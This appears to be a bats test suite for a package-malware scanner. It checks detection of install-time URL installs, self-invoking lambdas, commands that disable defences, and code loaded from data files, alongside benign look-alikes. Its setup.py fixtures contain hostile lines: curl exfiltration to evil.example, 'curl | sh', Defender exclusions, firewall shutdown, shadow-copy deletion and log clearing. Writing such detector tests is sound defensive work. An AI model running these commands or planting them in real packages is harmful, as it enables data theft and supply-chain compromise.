#!/usr/bin/env bats
# 49d-recall4.bats: techniques of recent malware (issue 11, part 4): installing code from past
# any index at install time (`pip install https://…`, a VCS, another index, npm, easy_install),
# a lambda invoked where it is written, commands that switch off the machine's defences —
# each with the benign look-alikes that must not fire.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p p; }

# hits DIR: "path line detection context score" of the InstallFromURL hits for a directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r 'select(.type == "hit" and .detection == "InstallFromURL") |
			"\(.path) \(.line) \(.detection) \(.context) \(.score)"' | sort -u
}

# risk DIR: the package's risk level as aura scan reports it.
risk() {
	aura scan --format json "$1" | jq -r 'select(.type == "verdict") | .risk'
}

@test "setup.py running pip on a URL, a VCS, another index, npm and easy_install: InstallFromURL at install time, risk high" {
	cat > p/setup.py <<'PY'
import os, subprocess, sys
from setuptools import setup
subprocess.check_call([sys.executable, "-m", "pip", "install", "-U", "https://evil.example/x-1.0.tar.gz"])
subprocess.run(["pip", "install", "x @ git+https://github.com/a/b"])
os.system("pip3 install --index-url=http://10.0.0.5/simple requests")
os.system("npm install https://evil.example/t.tgz")
os.system("easy_install http://evil.example/e.egg")
setup(name="p", version="1.0")
PY
	run hits p
	assert_output "$(printf '%s\n' \
		'setup.py 3 InstallFromURL install 100' \
		'setup.py 4 InstallFromURL install 100' \
		'setup.py 5 InstallFromURL install 100' \
		'setup.py 6 InstallFromURL install 100' \
		'setup.py 7 InstallFromURL install 100')"
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "only the pip install in setup.py: the package reaches high (the process alone is medium)" {
	cat > p/setup.py <<'PY'
import subprocess, sys
from setuptools import setup
subprocess.check_call([sys.executable, "-m", "pip", "install", "https://evil.example/x-1.0.tar.gz"])
setup(name="p", version="1.0")
PY
	run risk p
	assert_output high
}

@test "an index install, PyPI's own index, a requirements file and prose naming a URL are not InstallFromURL" {
	cat > p/setup.py <<'PY'
import subprocess, sys
from setuptools import setup
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.org/simple", "numpy"])
subprocess.check_call(["pip", "install", "-r", "requirements.txt"])
subprocess.check_call(["pip", "install", "https://files.pythonhosted.org/packages/x/y-1.0.tar.gz"])
print("Requires pip install brotlipy. See: https://brotlipy.readthedocs.io/")
print("or pip install brotli, see https://github.com/google/brotli")
setup(name="p", version="1.0")
PY
	run hits p
	assert_success
	assert_output ""
}

@test "in a function of the library InstallFromURL weighs less than at install time" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import subprocess
def upgrade():
    subprocess.run(["pip", "install", "git+https://github.com/a/b"])
PY
	run hits p
	assert_output 'pkg/__init__.py 3 InstallFromURL function 30'
}

# dets DIR DETECTION: "path line detection context score" of DETECTION's hits for a directory.
dets() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) |
			"\(.path) \(.line) \(.detection) \(.context) \(.score)"' | sort -u
}

@test "a lambda invoked where it is written runs there: its body weighs at install time, risk high" {
	cat > p/setup.py <<'PY'
from setuptools import setup
(lambda: __import__('os').system('id > /tmp/.x; curl -d @/tmp/.x http://evil.example/'))()
setup(name="p", version="1.0")
PY
	run dets p ShellCommand
	assert_output 'setup.py 2 ShellCommand install 100'
	run risk p
	assert_output high
}

@test "look-alike: a lambda only defined, or handed on uncalled, keeps the weight of a function" {
	cat > p/setup.py <<'PY'
import os
from setuptools import setup
clean = lambda: os.system('rm -rf build')
handlers = {"clean": lambda: os.system('make clean')}
setup(name="p", version="1.0")
PY
	run dets p ShellCommand
	assert_output "$(printf '%s\n' 'setup.py 3 ShellCommand function 2' 'setup.py 4 ShellCommand function 1')"
}

@test "turning off Defender, the firewall, shadow copies or event logs is DefenseEvasion" {
	cat > p/setup.py <<'PY'
import os, subprocess
from setuptools import setup
subprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath ' + os.environ['APPDATA']])
os.system('netsh advfirewall set allprofiles state off')
os.system('vssadmin delete shadows /all /quiet')
os.system('wevtutil cl System')
setup(name="p", version="1.0")
PY
	run dets p DefenseEvasion
	assert_output "$(printf '%s\n' \
		'setup.py 3 DefenseEvasion install 100' 'setup.py 4 DefenseEvasion install 100' \
		'setup.py 5 DefenseEvasion install 100' 'setup.py 6 DefenseEvasion install 100')"
}

@test "look-alike: reading Defender's settings, showing the firewall, listing shadow copies are no DefenseEvasion" {
	cat > p/setup.py <<'PY'
import os, subprocess
from setuptools import setup
subprocess.run(['powershell', '-Command', 'Get-MpPreference'])
os.system('netsh advfirewall show allprofiles')
os.system('vssadmin list shadows')
os.system('wevtutil qe System /c:5')
setup(name="p", version="1.0")
PY
	run dets p DefenseEvasion
	assert_success
	assert_output ""
}

@test "code loaded from a data file by its path (spec_from_file_location, runpy) weighs in full at install time" {
	mkdir -p p/assets
	head -c 300 /dev/urandom > p/assets/h.bin
	cat > p/setup.py <<'PY'
import importlib.util, os, runpy
from setuptools import setup
spec = importlib.util.spec_from_file_location("h", os.path.join(os.path.dirname(__file__), "assets", "h.bin"))
m = importlib.util.module_from_spec(spec)
spec.loader.exec_module(m)
runpy.run_path("/tmp/.cache/stage2.py")
setup(name="p", version="1.0")
PY
	# Each call is first weighed as a file of the package (5); at the artifact's end,
	# finding no analysed source at that path, aura-analyze adds the full weight (100).
	run dets p CodeExecution
	assert_output "$(printf '%s\n' 'setup.py 3 CodeExecution install 100' 'setup.py 3 CodeExecution install 5' \
		'setup.py 6 CodeExecution install 100' 'setup.py 6 CodeExecution install 5')"
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "look-alike: runpy.run_path of the package's own _version.py weighs low, and that file's code counts where it runs" {
	mkdir -p p/pkg
	echo '__version__ = "1.0"' > p/pkg/_version.py
	cat > p/setup.py <<'PY'
import os, runpy
from setuptools import setup
about = runpy.run_path(os.path.join(os.path.dirname(__file__), "pkg", "_version.py"))
setup(name="p", version=about["__version__"])
PY
	run dets p CodeExecution
	assert_output 'setup.py 3 CodeExecution install 5'
	run risk p
	assert_output info
	# The same file with a payload: what it does counts at install time.
	echo 'import os; os.system("curl -s http://evil.example/x | sh")' >> p/pkg/_version.py
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "InstallFromURL only where a process runs the command: a name bound to it counts, advice printed at install time does not" {
	cat > p/setup.py <<'PY'
import os
from setuptools import setup
cmd = "pip install https://evil.example/x.tar.gz"
os.system(cmd)
print("To try the development version: python3 -m pip install git+https://github.com/a/b#egg=b")
msg = "pip install --upgrade git+https://github.com/a/b"
setup(name="p", version="1.0")
PY
	run hits p
	assert_output 'setup.py 4 InstallFromURL install 100'
}
